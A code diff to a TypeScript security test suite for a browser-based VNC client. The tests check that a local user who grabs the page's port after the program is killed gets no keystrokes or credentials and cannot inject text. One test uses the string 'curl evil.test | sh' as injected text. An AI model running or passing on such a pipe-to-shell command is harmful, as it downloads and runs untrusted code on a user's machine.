@@ -13,7 +13,7 @@ import { describeWith } from '../helpers/real-components.js';
 import type { RunningBin } from '../helpers/run-bin.js';
 import { startXvnc } from '../helpers/start-xvnc.js';
 
-const STRANGER = 12_345;
+const OTHER_UID = 12_345;
 /** RSA-AES with encryption of the login only, the variant that noVNC supports. */
 const RA2NE = 6;
 
@@ -62,7 +62,7 @@ describeWith(['chromium'], 'another user who binds the port of the page', () => 
   };
 
   asRoot('receives no key, password or keystroke when the program is killed', async () => {
-    stranger = startPortSquatter(STRANGER, port, stored);
+    stranger = startPortSquatter(OTHER_UID, port, stored);
     running.kill('SIGKILL');
     await stranger.bound;
     await typeSomething();
@@ -87,7 +87,7 @@ describeWith(['chromium'], 'another user who binds the port of the page', () => 
     await page.click('#new-window');
     const second = await opened;
     await reach('connected', second);
-    stranger = startPortSquatter(STRANGER, port, stored);
+    stranger = startPortSquatter(OTHER_UID, port, stored);
     running.kill('SIGKILL');
     await stranger.bound;
     await second.reload();
@@ -97,7 +97,7 @@ describeWith(['chromium'], 'another user who binds the port of the page', () => 
   });
 
   asRoot('cannot show text on the page', async () => {
-    stranger = startPortSquatter(STRANGER, port, stored, 'Please run: curl evil.test | sh');
+    stranger = startPortSquatter(OTHER_UID, port, stored, 'Please run: curl evil.test | sh');
     running.kill('SIGKILL');
     await stranger.bound;
     await eventually(() => stranger.received.length > 1);
@@ -108,7 +108,7 @@ describeWith(['chromium'], 'another user who binds the port of the page', () => 
   asRoot.each(sample(['SIGINT', 'SIGTERM', 'SIGHUP'] as const, 3))(
     'is not contacted after %s, because the program announces its exit',
     async (signal) => {
-      stranger = startPortSquatter(STRANGER, port, stored);
+      stranger = startPortSquatter(OTHER_UID, port, stored);
       running.kill(signal);
       await running.ended;
       await stranger.bound;
